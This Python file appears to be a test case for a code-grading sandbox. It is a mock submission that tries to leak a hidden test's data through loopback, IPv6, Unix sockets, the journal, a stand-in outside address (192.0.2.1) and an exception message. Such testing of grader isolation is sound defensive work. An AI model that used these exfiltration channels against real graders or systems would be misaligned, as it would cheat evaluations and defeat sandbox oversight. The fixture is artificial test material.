"""Sends what it sees of a hidden test to a listener on the loopback, and by every other kind of socket.

ends: ok
earns: 0
"""

# %%
import socket


def send(data):
    told = []
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@PORT@"))),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@"))),
        (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0grader-attacks-@PORT@"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "@DROP@/listener"),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/run/systemd/journal/stdout"),
    ):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.2)
                s.connect(address)
                s.send(data)
                if family != socket.AF_INET or kind != socket.SOCK_DGRAM:
                    told.append(address)
        except OSError:
            pass
    return told


if told := send(b"hello"):
    print("WON", told)


# %% label_counts
def label_counts(table):
    raise ValueError(str(send(table.to_csv().encode())))
